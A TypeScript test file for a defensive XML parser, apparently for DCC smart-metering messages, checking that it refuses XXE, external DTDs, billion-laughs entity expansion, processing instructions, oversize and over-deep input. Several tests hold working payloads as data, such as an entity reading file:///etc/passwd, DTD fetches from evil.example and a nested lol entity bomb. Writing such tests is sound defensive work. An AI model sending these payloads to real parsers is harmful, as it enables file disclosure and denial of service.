import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatDuisXmlError, type DuisXmlError } from '../../dsp/duis-xml/errors.ts';
import { parseXml } from '../../dsp/duis-xml/xml-parser.ts';
import { XML_NS, type XmlElement } from '../../dsp/duis-xml/xml-tree.ts';

const SR = 'http://www.dccinterface.co.uk/ServiceUserGateway';

/** The refusal of `input`; fails the test when it parses. */
function refusal(input: string | Uint8Array, limits: Parameters<typeof parseXml>[1] = {}): DuisXmlError {
  const r = parseXml(input, limits);
  if (r.ok) throw new Error('expected a refusal, the document parsed');
  return r.error;
}

function parsed(input: string | Uint8Array): XmlElement {
  const r = parseXml(input);
  if (!r.ok) throw new Error(formatDuisXmlError(r.error));
  return r.value;
}

describe('refused before anything is expanded or fetched // DOMAIN §4.1', () => {
  it('XXE: an external entity (SYSTEM) is xml-external-entity-refused, and nothing is read', () => {
    const e = refusal('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>');
    expect(e).toMatchObject({ code: 'xml-external-entity-refused', path: '/', line: 2, column: 1 });
    expect(e.detail).toMatch(/SYSTEM or PUBLIC/);
  });

  it('XXE by parameter entity and an external DTD (PUBLIC) are refused the same way', () => {
    expect(refusal('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>').code).toBe('xml-external-entity-refused');
    expect(refusal('<!DOCTYPE r PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd"><r/>').code).toBe('xml-external-entity-refused');
    expect(refusal('<!DOCTYPE r SYSTEM "x.dtd"><r/>').code).toBe('xml-external-entity-refused');
  });

  it('billion laughs: nested ENTITY declarations are xml-entity-refused, never expanded', () => {
    const decls = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) decls.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const started = performance.now();
    const e = refusal(`<?xml version="1.0"?><!DOCTYPE lolz [${decls.join('')}]><lolz>&lol9;</lolz>`);
    expect(e).toMatchObject({ code: 'xml-entity-refused', path: '/' });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('a DOCTYPE without entities is xml-dtd-refused', () => {
    expect(refusal('<!DOCTYPE r><r/>')).toMatchObject({ code: 'xml-dtd-refused', path: '/', line: 1, column: 1 });
    expect(refusal('<!DOCTYPE r [<!ELEMENT r EMPTY>]><r/>').code).toBe('xml-dtd-refused');
    // Inside content it is no better.
    expect(refusal('<r><a><!DOCTYPE r></a></r>')).toMatchObject({ code: 'xml-dtd-refused', path: '/r/a' });
  });

  it('a reference to an undeclared entity is xml-entity-refused, with where it is', () => {
    expect(refusal('<sr:Request xmlns:sr="x">\n  <sr:Header>&nbsp;</sr:Header></sr:Request>')).toMatchObject({
      code: 'xml-entity-refused',
      path: '/Request/Header',
      line: 2,
    });
    expect(refusal('<r a="&ext;"/>').code).toBe('xml-entity-refused');
  });

  it('processing instructions other than the XML declaration are xml-pi-refused', () => {
    expect(refusal('<?xml-stylesheet href="x"?><r/>')).toMatchObject({ code: 'xml-pi-refused', path: '/' });
    expect(refusal('<r><?php echo 1; ?></r>')).toMatchObject({ code: 'xml-pi-refused', path: '/r' });
    expect(refusal(' <?xml version="1.0"?><r/>').code).toBe('xml-malformed');
  });

  it('a document over the size limit is xml-too-large, checked before reading (default 256 KiB)', () => {
    const big = `<r>${'x'.repeat(256 * 1024)}</r>`;
    expect(refusal(big)).toMatchObject({ code: 'xml-too-large', path: '/' });
    expect(refusal(Buffer.from(big))).toMatchObject({ code: 'xml-too-large' });
    expect(refusal('<r>ab</r>', { maxBytes: 8 }).detail).toBe('the document is 9 bytes, the limit is 8');
    // Bytes of UTF-8, not characters: four 3-byte characters are 12 bytes.
    expect(refusal('<r>€€€€</r>', { maxBytes: 16 }).code).toBe('xml-too-large');
    expect(parseXml('<r>€€€€</r>', { maxBytes: 19 }).ok).toBe(true);
  });

  it('elements nested over the depth limit are xml-too-deep, naming where (default 32)', () => {
    const nest = (n: number): string => `${'<a>'.repeat(n)}${'</a>'.repeat(n)}`;
    expect(parseXml(nest(32)).ok).toBe(true);
    const e = refusal(nest(33));
    expect(e.code).toBe('xml-too-deep');
    expect(e.path).toBe(`/${Array(32).fill('a').join('/')}`);
    expect(refusal(nest(5), { maxDepth: 4 }).code).toBe('xml-too-deep');
    // Deep enough to overflow a recursive reader's stack: still a value.
    expect(refusal(nest(100_000), { maxBytes: 2_000_000 }).code).toBe('xml-too-deep');
  });

  it('not UTF-8, or declaring another encoding, is xml-encoding', () => {
    expect(refusal(Uint8Array.from([0x3c, 0x72, 0x3e, 0xff, 0x3c, 0x2f, 0x72, 0x3e]))).toMatchObject({ code: 'xml-encoding', path: '/' });
    expect(refusal('<?xml version="1.0" encoding="ISO-8859-1"?><r/>').code).toBe('xml-encoding');
    expect(parseXml('<?xml version="1.0" encoding="utf-8" standalone="yes"?><r/>').ok).toBe(true);
    expect(parsed(Uint8Array.from([0xef, 0xbb, 0xbf, ...Buffer.from('<r/>')])).local).toBe('r');
  });
});

describe('well-formedness and namespaces', () => {
  const malformed: readonly [string, string, string][] = [
    ['<r><a></r>', '/r/a', 'closes'],
    ['<r>', '/r', 'not closed'],
    ['<r/><s/>', '/', 'after the document element'],
    ['text<r/>', '/', 'expected the document element'],
    ['', '/', 'no document element'],
    ['<r a="1" a="2"/>', '/', 'twice'],
    ['<r xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"/>', '/', 'twice'],
    ['<p:r/>', '/', 'not declared'],
    ['<r><p:a/></r>', '/r', 'not declared'],
    ['<r q:a="1"/>', '/', 'not declared'],
    ['<r xmlns:p=""/>', '/', 'undeclare'],
    ['<r xmlns:xml="urn:x"/>', '/', 'xml'],
    ['<r a=1/>', '/', 'quoted'],
    ['<r a="<"/>', '/', "'<'"],
    ['<r>]]></r>', '/r', "']]>'"],
    ['<r><!-- a -- b --></r>', '/r', "'--'"],
    ['<r>&#0;</r>', '/r', 'not a character'],
    ['<r>\u0001</r>', '/', 'U+0001'],
    ['<r>& x</r>', '/r', 'reference'],
    ['<r a="1"b="2"/>', '/', 'whitespace'],
  ];
  it.each(malformed)('%j is xml-malformed at %s (%s)', (doc, path, words) => {
    const e = refusal(doc);
    expect(e.code).toBe('xml-malformed');
    expect(e.path).toBe(path);
    expect(e.detail).toContain(words);
  });

  it('resolves namespaces, keeps declarations as written, expands references and normalises line ends and attributes', () => {
    const r = parsed(
      '<?xml version="1.0"?>\r\n<!-- c --><sr:Request xmlns:sr="' +
        SR +
        '" xmlns="urn:d" a="x\ty&#x9;z" xml:lang="en"><Body>1 &lt; 2 &amp; &#x20AC;&#8364;<![CDATA[<raw>&]]>\r\nend</Body><x xmlns=""/></sr:Request>\n',
    );
    expect(r).toMatchObject({ prefix: 'sr', local: 'Request', ns: SR });
    expect(r.namespaces).toEqual([
      { prefix: 'sr', uri: SR },
      { prefix: '', uri: 'urn:d' },
    ]);
    expect(r.attributes).toEqual([
      { prefix: '', local: 'a', ns: '', value: 'x y\tz' },
      { prefix: 'xml', local: 'lang', ns: XML_NS, value: 'en' },
    ]);
    const [body, x] = r.children as [XmlElement, XmlElement];
    expect(body).toMatchObject({ local: 'Body', ns: 'urn:d', children: [{ kind: 'text', text: '1 < 2 & €€<raw>&\nend' }] });
    expect(x).toMatchObject({ local: 'x', ns: '' });
  });

  it('takes an empty comment and comments around the document element', () => {
    expect(parsed('<!----><r><!----><!-- a - b --></r><!-- end -->').children).toEqual([]);
  });

  it('property: any input gives a value, never a throw', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '/',
      '&',
      ';',
      '"',
      "'",
      '=',
      ' ',
      'a',
      'p:',
      'xmlns',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '?>',
      '&#x',
      '<!DOCTYPE',
      '\n',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(pieces, { maxLength: 60 }).map((a) => a.join('')),
        ),
        (s) => {
          const r = parseXml(s);
          expect(typeof r.ok).toBe('boolean');
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('reads a 250 KiB document in linear time (no quadratic scans on references)', () => {
    const doc = `<r>${'&amp;'.repeat(50_000)}</r>`;
    const started = performance.now();
    expect(parseXml(doc).ok).toBe(true);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
